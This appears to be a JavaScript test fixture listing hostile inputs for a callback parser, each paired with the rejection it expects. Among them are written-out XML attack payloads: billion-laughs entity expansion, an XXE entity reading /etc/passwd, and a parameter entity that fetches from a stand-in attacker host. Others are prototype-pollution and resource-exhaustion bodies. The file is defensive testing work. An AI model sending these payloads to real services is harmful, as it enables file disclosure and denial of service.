// Hostile inputs for parseCallback, shared by the unit suite (test/hostile.test.ts, which checks each
// outcome) and the measuring script (scripts/hostile.mjs, which times each one and reports memory).
// Each case: { name, threat, make() → [body, contentType?, options?], expect: _tag or 'Right' }.
// Bodies are built on demand (some are 64 MiB) and never kept between cases.
'use strict'

const MiB = 1024 * 1024

/** A valid SmartCover job callback, with `extra` inserted inside its JobsDetail. */
const job = (extra = '') =>
  '<Response><EventName>TaskFinish</EventName><JobsDetail>' +
  '<Code>Success</Code><CreationTime>2022-06-30T15:29:42+0800</CreationTime>' +
  '<JobId>j6842765cf84611ecb8546d80f2baf56f</JobId><State>Success</State><Tag>SmartCover</Tag>' +
  `<Operation><UserData>u</UserData></Operation>${extra}</JobsDetail></Response>`

const jsonJob = (extra = '') =>
  '{"EventName":"TaskFinish","JobsDetail":{"Code":"Success","CreationTime":"2022-06-30T15:29:42+0800",' +
  '"JobId":"j6842765cf84611ecb8546d80f2baf56f","State":"Success","Tag":"SmartCover",' +
  `"Operation":{"UserData":"u"}${extra}}}`

/** The same job with a reserved name once in every object from JobsDetail down to depth `depth`. */
const reservedAtEveryDepth = (name, depth) => {
  let inner = `<${name}><polluted>yes</polluted></${name}>`
  for (let d = 0; d < depth; d++) inner = `<N${d}>${inner}</N${d}><${name}><polluted>yes</polluted></${name}>`
  return job(inner)
}

const jsonReservedAtEveryDepth = (name, depth) => {
  let inner = `"${name}":{"polluted":"yes"}`
  for (let d = 0; d < depth; d++) inner = `"N${d}":{${inner}},"${name}":{"polluted":"yes"}`
  return jsonJob(`,${inner}`)
}

const laughs = () => {
  let dtd = '<!ENTITY lol0 "lol">'
  for (let i = 1; i < 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`
  return `<?xml version="1.0"?><!DOCTYPE Response [${dtd}]><Response>&lol9;</Response>`
}

const detached = () => {
  const buffer = new ArrayBuffer(8)
  structuredClone(buffer, { transfer: [buffer] })
  return buffer
}

/** A well-formed callback of just under `size` bytes: as many jobs as fit, then padding in the last. */
const justUnder = (size) => {
  const one = job('').replace(/^<Response><EventName>TaskFinish<\/EventName>|<\/Response>$/g, '')
  const head = '<Response><EventName>TaskFinish</EventName>'
  const tail = '</Response>'
  const count = Math.floor((size - head.length - tail.length - 64) / one.length)
  const body = head + one.repeat(count) + tail
  return body.replace('<UserData>u</UserData>', `<UserData>${'u'.repeat(size - body.length)}</UserData>`)
}

/** A TDMQ for CMQ topic push in its JSON format (CMQ's own sample envelope) around `msgBody`. */
const cmq = (msgBody) =>
  JSON.stringify({
    TopicOwner: 100015036,
    topicName: 'MyTopic',
    subscriptionName: 'mysubscription',
    msgId: '6942316962',
    msgBody,
    publishTime: 11203432,
  })

module.exports = [
  {
    name: 'billion laughs',
    threat: 'entity expansion',
    make: () => [laughs(), 'application/xml'],
    expect: 'MalformedBody',
  },
  {
    name: 'quadratic blowup',
    threat: 'entity expansion',
    make: () => [
      `<!DOCTYPE Response [<!ENTITY a "${'a'.repeat(50_000)}">]><Response>${'&a;'.repeat(50_000)}</Response>`,
      'application/xml',
    ],
    expect: 'MalformedBody',
  },
  {
    name: 'external entity',
    threat: 'file disclosure (XXE)',
    make: () => [
      '<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response>&x;</Response>',
      'application/xml',
    ],
    expect: 'MalformedBody',
  },
  {
    name: 'parameter entity',
    threat: 'out-of-band XXE',
    make: () => [
      '<!DOCTYPE Response [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><Response/>',
      'application/xml',
    ],
    expect: 'MalformedBody',
  },
  {
    name: 'undeclared entity',
    threat: 'entity reference without a DOCTYPE',
    make: () => [job('<X>&lol;</X>'), 'application/xml'],
    expect: 'MalformedBody',
  },
  {
    name: '100 000-deep XML',
    threat: 'stack exhaustion',
    make: () => ['<a>'.repeat(100_000) + '</a>'.repeat(100_000), 'application/xml'],
    expect: 'LimitExceeded',
  },
  {
    name: '100 000-deep XML, cut short',
    threat: 'stack exhaustion, huge error message',
    make: () => ['<Response>' + '<a>'.repeat(100_000), 'application/xml'],
    expect: 'LimitExceeded',
  },
  {
    name: '100 000-deep JSON arrays',
    threat: 'stack exhaustion',
    make: () => ['['.repeat(100_000) + ']'.repeat(100_000), 'application/json'],
    expect: 'LimitExceeded',
  },
  {
    name: '100 000-deep JSON objects',
    threat: 'stack exhaustion',
    make: () => ['{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000), 'application/json'],
    expect: 'LimitExceeded',
  },
  {
    name: '64 MiB string body',
    threat: 'memory exhaustion',
    make: () => ['<Response>' + 'x'.repeat(64 * MiB) + '</Response>', 'application/xml'],
    expect: 'LimitExceeded',
  },
  {
    name: '64 MiB Buffer body',
    threat: 'memory exhaustion',
    make: () => [Buffer.alloc(64 * MiB, 0x20), 'application/xml'],
    expect: 'LimitExceeded',
  },
  {
    name: 'just under maxBytes (4 MiB)',
    threat: 'cost of the largest accepted body',
    // 17 923 jobs: over the default maxItems (10 000), so the limit is raised, as a receiver of
    // such batches would, to keep measuring the whole largest body the byte limit lets through.
    make: () => [justUnder(4 * MiB), 'application/xml', { maxItems: 20_000 }],
    expect: 'Right',
  },
  {
    name: '100 000 sibling elements',
    threat: 'wide trees',
    make: () => [job('<Extra>1</Extra>'.repeat(100_000)), 'application/xml'],
    expect: 'LimitExceeded',
  },
  {
    name: '100 000 JSON array items',
    threat: 'wide trees',
    make: () => [jsonJob(`,"Extra":[${'"1",'.repeat(99_999)}"1"]`), 'application/json'],
    expect: 'LimitExceeded',
  },
  {
    name: '1 MiB attribute value',
    threat: 'large tokens',
    make: () => [job('').replace('<Response>', `<Response a="${'v'.repeat(MiB)}">`), 'application/xml'],
    expect: 'Right',
  },
  {
    name: '1 MiB text node',
    threat: 'large tokens',
    make: () => [
      job('').replace('<UserData>u</UserData>', `<UserData>${'t'.repeat(MiB)}</UserData>`),
      'application/xml',
    ],
    expect: 'Right',
  },
  {
    name: 'invalid UTF-8',
    threat: 'mis-decoding',
    make: () => [
      Buffer.concat([Buffer.from('<Response>'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('</Response>')]),
    ],
    expect: 'MalformedBody',
  },
  {
    name: 'lone surrogate in XML text',
    threat: 'mis-decoding',
    make: () => [job('<X>\uD800</X>'), 'application/xml'],
    expect: 'MalformedBody',
  },
  {
    name: 'NUL byte in XML text',
    threat: 'truncation in C consumers',
    make: () => [job('<X>a\u0000b</X>'), 'application/xml'],
    expect: 'MalformedBody',
  },
  {
    name: 'NUL byte in a JSON string',
    threat: 'truncation in C consumers',
    make: () => [jsonJob(',"X":"a\u0000b"'), 'application/json'],
    expect: 'MalformedBody',
  },
  {
    name: '__proto__ at every depth (XML)',
    threat: 'prototype pollution',
    make: () => [reservedAtEveryDepth('__proto__', 50), 'application/xml'],
    expect: 'Right',
  },
  {
    name: 'constructor and prototype at every depth (XML)',
    threat: 'prototype pollution',
    make: () => [reservedAtEveryDepth('constructor', 25).replace(/N\d+>/g, 'prototype>'), 'application/xml'],
    expect: 'Right',
  },
  {
    name: '__proto__ at every depth (JSON)',
    threat: 'prototype pollution',
    make: () => [jsonReservedAtEveryDepth('__proto__', 50), 'application/json'],
    expect: 'Right',
  },
  {
    name: 'constructor and prototype at every depth (JSON)',
    threat: 'prototype pollution',
    make: () => [jsonReservedAtEveryDepth('constructor', 25).replace(/"N\d+"/g, '"prototype"'), 'application/json'],
    expect: 'Right',
  },
  { name: 'null body', threat: 'misuse', make: () => [null], expect: 'InvalidArgument' },
  { name: 'number body', threat: 'misuse', make: () => [42], expect: 'InvalidArgument' },
  {
    name: 'already-parsed object body',
    threat: 'misuse',
    make: () => [{ EventName: 'TaskFinish' }],
    expect: 'InvalidArgument',
  },
  { name: 'detached ArrayBuffer body', threat: 'misuse', make: () => [detached()], expect: 'InvalidArgument' },
  {
    name: 'throwing Proxy body',
    threat: 'hostile object',
    make: () => [
      new Proxy(
        {},
        {
          get() {
            throw new Error('boom')
          },
          getPrototypeOf() {
            throw new Error('boom')
          },
        },
      ),
    ],
    expect: 'InvalidArgument',
  },
  {
    name: 'throwing options getter',
    threat: 'hostile object',
    make: () => [
      job(),
      'application/xml',
      Object.defineProperty({}, 'maxBytes', {
        enumerable: true,
        get() {
          throw new Error('boom')
        },
      }),
    ],
    expect: 'InvalidArgument',
  },
  {
    name: 'CMQ envelope around 100 000-deep XML',
    threat: 'stack exhaustion inside a queue message',
    make: () => [cmq('<a>'.repeat(100000)), 'text/plain'],
    expect: 'LimitExceeded',
  },
  {
    name: 'CMQ envelope around 100 000-deep JSON arrays',
    threat: 'stack exhaustion inside a queue message',
    make: () => [cmq('['.repeat(100000)), 'text/plain'],
    expect: 'LimitExceeded',
  },
  {
    name: 'CMQ envelope with a 3 MiB msgBody',
    threat: 'memory exhaustion inside a queue message',
    make: () => [cmq(job(`<Extra>${'x'.repeat(3 * MiB)}</Extra>`)), 'text/plain'],
    expect: 'LimitExceeded',
  },
  {
    name: 'CMQ envelopes nested until 256 KiB',
    threat: 'unbounded unwrapping',
    make: () => {
      let body = job()
      for (let i = 0; i < 1000 && body.length < MiB / 4; i++) body = cmq(body)
      return [body, 'text/plain']
    },
    expect: 'InvalidPayload',
  },
  {
    name: '__proto__ at every depth inside a CMQ envelope',
    threat: 'prototype pollution inside a queue message',
    make: () => [cmq(jsonReservedAtEveryDepth('__proto__', 50)), 'text/plain'],
    expect: 'Right',
  },
]
